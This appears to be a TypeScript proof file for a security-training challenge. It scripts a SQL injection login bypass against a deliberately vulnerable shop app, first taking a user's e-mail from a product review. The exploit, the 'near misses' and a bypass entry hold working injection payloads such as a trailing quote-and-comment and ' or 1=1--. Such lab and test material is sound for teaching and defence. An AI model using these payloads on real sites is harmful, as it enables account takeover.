import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const signIn = (attacker: Attacker, email: string, password = 'x') =>
  attacker.post('/rest/user/login', { email, password })

/** Returns Bender's e-mail, shown as author of one of his reviews. */
async function emailOfBender(attacker: Attacker): Promise<string> {
  const reviews: { author: string }[] = (await attacker.get('/rest/products/31/reviews')).json().data
  const review = reviews.find(({ author }) => author.startsWith('bender@'))
  if (!review) throw new Error('Bender has not reviewed product 31.')
  return review.author
}

export const proof = prove(challenge, {
  exploit: async (attacker) => signIn(attacker, `${await emailOfBender(attacker)}'--`),
  nearMisses: {
    'his e-mail and a wrong password': async (attacker) => signIn(attacker, await emailOfBender(attacker), 'password'),
    'his e-mail with a quote, which only breaks the statement': async (attacker) =>
      signIn(attacker, `${await emailOfBender(attacker)}'`),
    'his e-mail with a comment, but with the quote left open': async (attacker) =>
      signIn(attacker, `${await emailOfBender(attacker)}--`),
    'the condition that lets the first account in': (attacker) => signIn(attacker, "' or 1=1--"),
    'another account entered by the same trick': (attacker) => signIn(attacker, `jim@${attacker.domain}'--`),
    'the attack in the password field, which is hashed': async (attacker) =>
      signIn(attacker, await emailOfBender(attacker), "'--"),
  },
  bypasses: {
    'bind-password-only': (attacker) => signIn(attacker, "' or id=3 or '1'='"),
  },
})
